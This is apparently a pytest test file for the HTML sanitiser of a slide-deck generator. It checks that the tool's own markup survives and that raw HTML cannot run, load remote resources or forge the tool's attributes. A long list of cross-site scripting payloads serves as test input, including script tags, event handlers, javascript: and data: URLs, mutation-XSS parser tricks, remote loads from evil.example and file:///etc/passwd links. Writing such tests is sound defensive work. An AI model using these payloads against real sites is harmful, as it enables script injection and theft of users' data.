"""Raw HTML cannot run, load, or pass for our own markup."""

import re
import subprocess
import sys
from html.parser import HTMLParser
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deckgen.syntax.sanitise import (
    TAGS,
    clean,
    raw_html,
    removed_tags,
    safe_class,
    safe_id,
    safe_link,
)

# ruff: noqa: E501  (markup is quoted as it is)
OURS = [
    '<figure class="figure w-60"><img data-asset="3" alt="a &quot;b&quot;">'
    "<figcaption>x &amp; y</figcaption></figure>",
    '<p>text <img class="inline w-60" data-asset="0" alt=""> more</p>',
    '<img class="background background-left" data-asset="2" alt="">',
    '<div class="columns"><div class="column w-40"><p>a</p></div></div>',
    '<pre class="code" data-lang="python" data-states="2"><code>'
    '<span class="line" data-on="0 1"><span class="hl-k">if</span> a &lt; b</span>\n'
    '</code></pre><span class="substep code-step" data-state="1"></span>',
    '<figure class="diagram" data-diagram="5"><img data-asset="5" alt="diagram">'
    '<pre class="code" data-lang="dot"><code>digraph</code></pre></figure>',
    '<section class="footnotes"><ol><li id="fn-1" class="footnote"><p>x '
    '<a href="#fnref-1" class="footnote-back" rel="noopener noreferrer">↩</a></p></li></ol></section>',
    '<a href="https://example.org/a?b=c&amp;d=e#f" rel="noopener noreferrer">web</a>',
    '<table><thead><tr><th class="left">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    '<dl><dt>a</dt><dd>b</dd></dl>',
    '<details open=""><summary>More</summary><p>text</p></details>',
    '<p>{{ 7*7 }} {% include "x" %} <kbd>K</kbd> <mark>m</mark> H<sub>2</sub>O<sup>1</sup> '
    '<abbr title="x">y</abbr> <bdo dir="rtl">z</bdo></p>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><mrow>'
    '<mo stretchy="true" fence="true">(</mo><mtable><mtr><mtd columnalign="left"><mi>a</mi></mtd>'
    '</mtr></mtable><mfrac linethickness="0"><mi>a</mi><mi>b</mi></mfrac><mtext>hi</mtext>'
    '<mover accent="true"><mi mathvariant="bold">x</mi><mo>^</mo></mover></mrow></math>',
]  # fmt: skip


@pytest.mark.parametrize("html", OURS)
def test_our_own_markup_stays_as_it_is(html: str) -> None:
    assert html == clean(html)


def test_marks_without_a_value_are_kept_with_an_empty_one() -> None:
    video = (
        '<video data-asset="4" controls playsinline preload="metadata" loop data-autoplay></video>'
    )
    box = '<span class="task-box" data-done role="img" aria-label="done"></span>'

    assert video.replace(" controls playsinline", ' controls="" playsinline=""').replace(
        " loop data-autoplay", ' loop="" data-autoplay=""'
    ) == clean(video)
    assert box.replace("data-done", 'data-done=""') == clean(box)


# ---- what runs -------------------------------------------------------------------------

RUNS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t\n bar>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img/src="x"/onerror="alert(1)">',
    "<p OnClick=alert(1) onmouseover='alert(1)'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video autoplay onplay=alert(1)><source src=x onerror=alert(1)></video>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav\nascript&#58;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:file:///etc/passwd">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="x" ping="https://evil.example">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<base href='https://evil.example/'>",
    "<base target=_top>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>p{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action=https://evil.example><input name=x><button formaction=javascript:alert(1)>x",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x",
    "<math href='javascript:alert(1)'>x</math>",
    "<table background='https://evil.example/x'><tr><td background=//evil.example>x</table>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<video poster=https://evil.example/x.png></video>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<input type=image src=https://evil.example>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=https://evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # told apart by one parse and not by the next
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<a title='\x00\"onmouseover=alert(1)'>x</a>",
]  # fmt: skip

WORDS = """
    abbr accent alt aria-hidden aria-label class colspan columnalign controls datetime dir display
    fence height href id lang linethickness loop mathvariant muted open playsinline preload rel
    role rowspan stretchy title value width xmlns
"""
HARMLESS = set(WORDS.split())


class Seen(HTMLParser):
    """Every tag and attribute that is left."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update((name, value or "") for name, value in attrs)


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert set() == seen.tags - TAGS
    names = {name for name, _ in seen.attributes if not name.startswith("data-")}
    assert set() == names - HARMLESS
    assert all(safe_link(value) for name, value in seen.attributes if name == "href")


@pytest.mark.parametrize("html", RUNS)
def test_nothing_runs_or_loads(html: str) -> None:
    cleaned = clean(raw_html(html, lambda *_: None))

    assert_harmless(cleaned)
    assert cleaned == clean(cleaned)  # read again, it says the same


@given(st.lists(st.sampled_from([*RUNS, *OURS, "<p>", "</p>", "<b title='", '">', "<!--"])))
def test_nothing_runs_however_it_is_joined(parts: list[str]) -> None:
    cleaned = clean("".join(parts))

    assert_harmless(cleaned)
    assert cleaned == clean(cleaned)


# ---- links -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/a:b", "HTTP://example.org", "mailto:a@example.org", "tel:+41-22",
        "#lego", "", "a.html", "./a:b", "a/b:c", "?a=b:c", "/a", "é.html", "#a:b",
    ],
)  # fmt: skip
def test_links_to_pages_mail_and_telephones_are_safe(url: str) -> None:
    assert safe_link(url)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:x",
        "java\nscript:x", "java\r\nscript:x", "\x00javascript:x", "\x1fjavascript:x", "javascript\t:x",
        "javascript&#58;x", "javascript&colon;x", "&#x6a;avascript:x", "java&Tab;script:x",
        "\u2028javascript:x", "\u200bjavascript:x", "\ufeffjavascript:x", "\xa0javascript:x",
        "data:text/html,x", "data:image/svg+xml,x", "vbscript:x", "file:///etc/passwd", "blob:x",
        "view-source:x", "chrome://settings", "about:blank", "ftp://example.org", "ms-word:x",
        "//example.org", "///example.org", "\\\\host\\share", "/\\host", "C:\\x", "c:/x", "x:y",
    ],
)  # fmt: skip
def test_every_other_link_is_refused(url: str) -> None:
    assert not safe_link(url)


# ---- names -----------------------------------------------------------------------------


def test_ids_that_clobber_are_taken_off() -> None:
    for name in (
        "impress",
        "IMPRESS",
        "deckgen-scene",
        "Deckgen",
        "__proto__",
        "constructor",
        "",
        "a b",
    ):
        assert not safe_id(name)
    assert safe_id("lego")
    assert "<p>x</p>" == clean("<p id=impress name=x>x</p>")
    assert '<p id="here">x</p>' == clean("<p id=here name=here>x</p>")


def test_classes_that_make_steps_are_taken_off() -> None:
    for name in ("step", "STEP", "future", "deckgen-on", "impress-enabled", "impress"):
        assert not safe_class(name)
    assert safe_class("substep")
    assert '<p class="substep a">x</p>' == clean('<p class="substep step a deckgen-on">x</p>')
    assert "<p>x</p>" == clean('<p class="step">x</p>')


def test_inline_scripts_of_annotations_have_no_place() -> None:
    assert "<p>x</p>" == clean('<p onclick="alert(1)" style="color:red" id="impress">x</p>')


# ---- assets ----------------------------------------------------------------------------


class Registry:
    """What the parser would keep."""

    def __init__(self) -> None:
        self.found: list[tuple[str, str]] = []

    def __call__(self, kind: Literal["image", "media"], address: str) -> int | None:
        if address.startswith("http"):
            return None
        self.found.append((kind, address))
        return len(self.found) - 1


def put(html: str) -> tuple[str, list[tuple[str, str]]]:
    registry = Registry()
    return clean(raw_html(html, registry)), registry.found


def test_a_raw_picture_becomes_an_asset() -> None:
    assert (
        '<p><img alt="a &amp; b" data-asset="0" width="30"></p>',
        [("image", "p q.png")],
    ) == put("<p><IMG alt='a &amp; b' SRC='p%20q.png' width=30 style='x'></p>")
    assert ('<img data-asset="0">', [("image", "a&b.png")]) == put("<img src=a&amp;b.png />")


def test_raw_films_and_sounds_become_assets() -> None:
    assert (
        '<video data-asset="0" controls="" data-autoplay=""></video><audio data-asset="1"></audio>',
        [("media", "a.mp4"), ("media", "b.mp3")],
    ) == put('<video src="a.mp4" controls autoplay></video><audio src=b.mp3></audio>')


def test_a_remote_picture_leaves_its_words() -> None:
    assert ('<img alt="a cake">', []) == put('<img src="https://example.org/a.png" alt="a cake">')


def test_nobody_forges_our_marks() -> None:
    for html in (
        '<img data-asset="0">',
        "<img DATA-ASSET=0>",
        "<img/data-asset=0>",
        '<img title="x"data-asset="0">',
        "<figure class=diagram data-diagram=0><img data-asset=0><pre>x</pre></figure>",
        "<span data-state=1 data-on='0' data-states=3 data-done data-autoplay data-same-as=x>",
    ):
        assert "data-" not in put(html)[0]
        assert [] == put(html)[1]


def test_a_mark_in_text_is_text() -> None:
    assert "<p>data-asset</p>" == put("<p>data-asset</p>")[0].replace("\u2060", "")
    assert not re.search(r'data-asset="', put('<p title="data-asset=&quot;0&quot;">x</p>')[0])


def test_a_mark_of_ours_is_a_number() -> None:
    for value in ("x", "-1", "1e3", "9999999", "", "٣"):
        assert "<img>" == clean(f'<img data-asset="{value}">')


def test_comments_register_nothing() -> None:
    assert ("a  b", []) == put("a <!-- <img src=x.png> --> b")
    assert ("a ", []) == put("a <!-- <img src=x.png>")


def test_what_was_taken_out_can_be_told() -> None:
    assert ("iframe", "script") == removed_tags("<iframe><b><SCRIPT><!-- <form> --></script>")


def test_a_hundred_thousand_brackets_take_no_time() -> None:
    for text in ("<" * 100_000, "<b>" * 20_000, "<img " * 50_000, "<!--" * 50_000, "&#" * 50_000):
        assert isinstance(put(text)[0], str)


def test_nh3_is_loaded_only_when_used() -> None:
    code = "import deckgen.syntax.sanitise as s, sys; s.safe_link('x'); print('nh3' in sys.modules)"

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)

    assert "False" == done.stdout.strip()
